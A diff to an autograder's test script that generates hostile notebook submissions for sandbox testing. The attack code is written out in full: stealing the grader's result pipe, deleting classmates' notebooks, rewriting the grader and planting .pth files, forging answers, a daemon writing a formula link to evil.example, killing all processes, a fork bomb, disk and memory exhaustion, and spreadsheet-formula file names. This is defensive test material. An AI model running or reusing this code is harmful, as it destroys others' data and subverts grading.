@@ -4,6 +4,11 @@ Run ``python tests/submissions/make_submissions.py`` after changing a notebook h
 .ipynb files are kept in git so an instructor can open them and see what each one tries.
 Every notebook answers the three sample questions of chapter 05 (05.ridge_h100,
 05.axpy_bound, 05.kernel_time); the file name says what else it does.
+
+``NOTEBOOKS`` cheat or break inside their own kernel (loops, crashes, monkeypatching).
+``HOSTILE`` attack the grader and classmates, each with an attack that beat the grader before
+every submission ran in a sandbox of its own.  ``write_hostile_files`` makes, at test time,
+the files whose names or sizes are the attack.
 """
 
 from __future__ import annotations
@@ -104,11 +109,265 @@ NOTEBOOKS = {
 }
 
 
+# -- attacks on the grader and on classmates ---------------------------------------------------
+# Each attack catches its own errors, so a notebook whose attack fails still reaches its
+# answers, and a test can tell "the attack did nothing" from "the attack broke the kernel".
+# Never run these notebooks outside the grader's sandbox (killer_05 kills every process it
+# may signal).
+
+# The worker (the kernel's parent) reports to the grader on the descriptor its command line
+# ends with.  The pipe belongs to the grader (root in CI: /proc/PID/fd refuses to reopen it),
+# but the worker runs as the kernel's own user, so the kernel can take the worker's copy
+# (pidfd_getfd, Linux 5.6+) and write lines of its own.
+RESULT_CHANNEL = '''\
+import ctypes
+import os
+
+
+def grader_channel():
+    parent = os.getppid()
+    with open(f"/proc/{parent}/cmdline", "rb") as f:
+        argv = f.read().split(b"\\0")
+    fd = int([a for a in argv if a][-1])
+    try:
+        return open(f"/proc/{parent}/fd/{fd}", "wb", buffering=0)
+    except PermissionError:
+        libc = ctypes.CDLL(None, use_errno=True)
+        pidfd = libc.syscall(434, parent, 0)  # pidfd_open
+        stolen = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
+        if stolen < 0:
+            raise OSError(ctypes.get_errno(), "pidfd_getfd failed") from None
+        return os.fdopen(stolen, "wb", buffering=0)'''
+
+# Look for classmates' notebooks and the grades through /proc and the disk; overwrite and
+# delete every one found.
+SPY = '''\
+import contextlib
+import glob
+import os
+
+seen = set()
+for link in glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root") + glob.glob("/proc/*/fd/*"):
+    with contextlib.suppress(OSError):
+        seen.add(os.path.realpath(link))
+for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
+    with contextlib.suppress(OSError), open(cmdline, "rb") as f:
+        words = f.read().decode(errors="replace").split("\\0")
+        seen.update(w for w in words if w.startswith("/"))
+tops = {"/work", "/home", "/root", "/srv", "/mnt", "/var", "/tmp", "/opt", "/builds"}
+tops |= {os.path.dirname(p) for p in seen} | {os.path.dirname(os.path.dirname(p)) for p in seen}
+victims, looked = [], 0
+for top in sorted(tops):
+    for here, dirs, files in os.walk(top):
+        dirs[:] = [d for d in dirs if d not in ("site-packages", "proc", "sys")]
+        victims += [os.path.join(here, f) for f in files if f.endswith((".ipynb", ".csv", ".json"))]
+        looked += len(files)
+        if looked > 20_000:  # enough to find a submissions folder in reach
+            break
+own = os.path.join(os.getcwd(), "submission.ipynb")
+changed = 0
+for path in victims:
+    if path != own:
+        try:
+            with open(path, "w") as f:
+                f.write("{}")
+            changed += 1
+        except OSError:
+            pass
+        try:
+            os.remove(path)
+            changed += 1
+        except OSError:
+            pass'''
+
+# Rewrite the installed grader, and plant .pth / sitecustomize files for the next run.
+REWRITE_INSTALL = '''\
+import contextlib
+import os
+import site
+import sys
+
+import gpu_lessons
+
+package = os.path.dirname(gpu_lessons.__file__)
+for name in ("grading/runner.py", "grading/rows.py", "checks.py", "grade.py", "__init__.py"):
+    try:
+        with open(os.path.join(package, name), "a") as f:
+            f.write("\\nraise SystemExit('the grader was rewritten')\\n")
+    except OSError:
+        pass
+for folder in [*site.getsitepackages(), sys.prefix, sys.base_prefix, package]:
+    for name in ("zz_hostile.pth", "sitecustomize.py", "usercustomize.py"):
+        try:
+            with open(os.path.join(folder, name), "w") as f:
+                f.write("import os; os.environ['HOSTILE'] = '1'\\n")
+        except OSError:
+            pass
+    with contextlib.suppress(OSError):
+        os.chmod(folder, 0o777)'''
+
+# Forged answers where later notebooks' grading used to keep its temporary files.
+PLANT = '''\
+import json
+import os
+
+forged = {"05.ridge_h100": {"kind": "number", "value": 0.0},
+          "05.axpy_bound": {"kind": "str", "value": "compute-bound"}}
+for i in range(64):
+    for folder in (f"/tmp/gpu-lessons-grade-{i:08x}/probes", f"/tmp/gpu-lessons-grade-{i}"):
+        try:
+            os.makedirs(folder, exist_ok=True)
+            for qid, obs in forged.items():
+                with open(os.path.join(folder, qid + ".json"), "w") as f:
+                    f.write(json.dumps({"id": qid, "observation": obs}))
+        except OSError:
+            pass'''
+
+# A daemon in a session of its own, forked twice, that keeps trying to rewrite any grades
+# file it can find for a minute after the notebook ends.  Its argv carries a marker.
+DAEMON = '''\
+import subprocess
+import sys
+
+DAEMON = """
+import glob, os, time
+if os.fork():
+    os._exit(0)
+os.setsid()
+end = time.time() + 60
+while time.time() < end:
+    for top in ("/work", "/tmp", "/root", "/home", "/srv"):
+        for path in glob.glob(top + "/**/grades*.*", recursive=True):
+            try:
+                open(path, "w").write('=HYPERLINK("http://evil.example")')
+            except OSError:
+                pass
+    time.sleep(0.5)
+"""
+subprocess.Popen([sys.executable, "-c", DAEMON, "gpu-lessons-hostile-daemon"],
+                 start_new_session=True, stdin=subprocess.DEVNULL,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)'''
+
+KILL_ALL = '''\
+import contextlib
+import os
+import signal
+
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid != os.getpid():
+        with contextlib.suppress(OSError):
+            os.kill(pid, signal.SIGKILL)
+os.kill(-1, signal.SIGKILL)'''
+
+FILL_DISKS = '''\
+import os
+
+
+def fill(folder):
+    n = 0
+    try:
+        while n < 4096:
+            with open(os.path.join(folder, f"fill{n}"), "wb") as f:
+                f.write(b"x" * 2**20)
+            n += 1
+    except OSError:
+        pass
+    return n
+
+
+filled = fill("/tmp"), fill(os.getcwd())'''
+
+SPARSE_LOG = '''\
+try:
+    with open("grader.log", "wb") as f:
+        f.truncate(2 * 2**30)
+except OSError:
+    pass'''
+
+MEMORY_HOG = '''\
+try:
+    hog = bytearray(8 * 2**30)
+except MemoryError:
+    hog = None'''
+
+FORK_BOMB = '''\
+import os
+import signal
+import time
+
+children = 0
+try:
+    while children < 100_000:
+        if os.fork() == 0:
+            signal.signal(signal.SIGINT, signal.SIG_IGN)  # the cell interrupt reaches us too
+            time.sleep(3600)
+            os._exit(0)
+        children += 1
+except OSError:
+    pass'''
+
+FLOOD = '''\
+chunk = b"x" * 2**20
+with grader_channel() as out:
+    for _ in range(100):
+        out.write(chunk)
+with open(f"/proc/{os.getppid()}/fd/1", "wb") as log:
+    for _ in range(200):
+        log.write(chunk)'''
+
+DEEP_JSON = '''\
+with grader_channel() as out:
+    out.write(b"[" * 200_000 + b"\\n")'''
+
+FORGED_PGID = '''\
+import json
+
+with grader_channel() as out:
+    out.write(json.dumps({"event": "kernel", "kernel_pgid": 1}).encode() + b"\\n")
+    out.write(json.dumps({"kernel_pgid": 1, "status": "ok", "finished": True}).encode() + b"\\n")'''
+
+# Outside the sandbox these cells would do real harm (delete notebooks, kill every process
+# root can reach), so each attack runs only where it finds the sandbox's work folder and pids.
+SANDBOX_ONLY = '''\
+import os
+
+# A test submission that attacks whatever it can reach: its attack cells run only inside the
+# grader's sandbox, where the work folder holds the one notebook and the pids are small.
+IN_SANDBOX = os.path.exists("/sandbox/submission.ipynb") and os.getpid() < 1000'''
+
+
+def attack(code: str) -> str:
+    return ("if not IN_SANDBOX:\n"
+            "    raise SystemExit(\"attack skipped: not inside the grader's sandbox\")\n" + code)
+
+
+HOSTILE = {
+    # Spies on and edits classmates' notebooks and the grades, rewrites the package, plants
+    # .pth files and forged answers in /tmp, starts a daemon; then answers correctly.
+    "intruder_05.ipynb": [SANDBOX_ONLY, *map(attack, (SPY, REWRITE_INSTALL, PLANT, DAEMON)),
+                          *GOOD],
+    # Correct answers, then SIGKILL to every process it sees and to all it may signal.
+    "killer_05.ipynb": [SANDBOX_ONLY, *GOOD, attack(KILL_ALL)],
+    # Fills the temporary and work folders, a 2 GiB sparse log, 8 GiB of memory; then answers.
+    "fill_05.ipynb": [SANDBOX_ONLY, *map(attack, (FILL_DISKS, SPARSE_LOG, MEMORY_HOG)), *GOOD],
+    # Correct answers, then forks until the process limit says no (children sleep an hour).
+    "forkbomb_05.ipynb": [SANDBOX_ONLY, *GOOD, attack(FORK_BOMB)],
+    # 100 MiB without a newline into the grader's result channel, 200 MiB into its log.
+    "flood_05.ipynb": [SANDBOX_ONLY, *GOOD, RESULT_CHANNEL, attack(FLOOD)],
+    # JSON nested 200,000 deep into the result channel (it once crashed the grader's cleanup).
+    "deepjson_05.ipynb": [SANDBOX_ONLY, *GOOD, RESULT_CHANNEL, attack(DEEP_JSON)],
+    # A forged report naming process group 1 (it once made the grader kill everything).
+    "pgid_05.ipynb": [SANDBOX_ONLY, *GOOD, RESULT_CHANNEL, attack(FORGED_PGID)],
+}
+
+
 def write_all(folder: Path = HERE) -> list[Path]:
     written = []
-    for name, cells in NOTEBOOKS.items():
+    for name, cells in {**NOTEBOOKS, **HOSTILE}.items():
         nb = new_notebook(cells=[new_markdown_cell(f"Test submission `{name}`"),
                                  *(new_code_cell(src) for src in cells)])
+        for i, cell in enumerate(nb.cells):  # fixed ids: regenerating changes nothing
+            cell.id = f"cell-{i}"
         nb.metadata["gpu_lessons"] = {"chapter": 5}
         nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                      "language": "python"}
@@ -128,6 +387,26 @@ def write_invalid(folder: Path) -> list[Path]:
     truncated.write_text('{"cells": [{"cell_type": "code", "sou', "utf-8")
     wrong_shape.write_text('["just", "a", "list"]', "utf-8")
     return [truncated, wrong_shape]
+
+
+def write_hostile_files(folder: Path) -> dict[str, str]:
+    """Files whose *names* or *size* attack the grader, written at test time (git, editors or
+    other systems would choke on them): names a spreadsheet runs as formulas or with control
+    characters, a 2 GiB sparse file, JSON nested 200,000 deep, a symbolic link to a system
+    file.  Returns {file name: what it is}."""
+    made = {}
+    for name in ("=1+2_05.ipynb", "@SUM(A1)_05.ipynb", "+cmd|' calc'!A0_05.ipynb",
+                 "-2+3_05.ipynb", "\tTab_05.ipynb", "bell\x07_05.ipynb"):
+        (folder / name).write_text("{oops", "utf-8")
+        made[name] = "a name a spreadsheet would run, or with control characters"
+    with open(folder / "huge_05.ipynb", "wb") as f:  # sparse: takes no disk space
+        f.truncate(2 * 2**30)
+    made["huge_05.ipynb"] = "2 GiB"
+    (folder / "deep_05.ipynb").write_text("[" * 200_000 + "]" * 200_000, "utf-8")
+    made["deep_05.ipynb"] = "JSON nested 200,000 deep"
+    (folder / "link_05.ipynb").symlink_to("/etc/passwd")
+    made["link_05.ipynb"] = "a symbolic link"
+    return made
 
 
 if __name__ == "__main__":
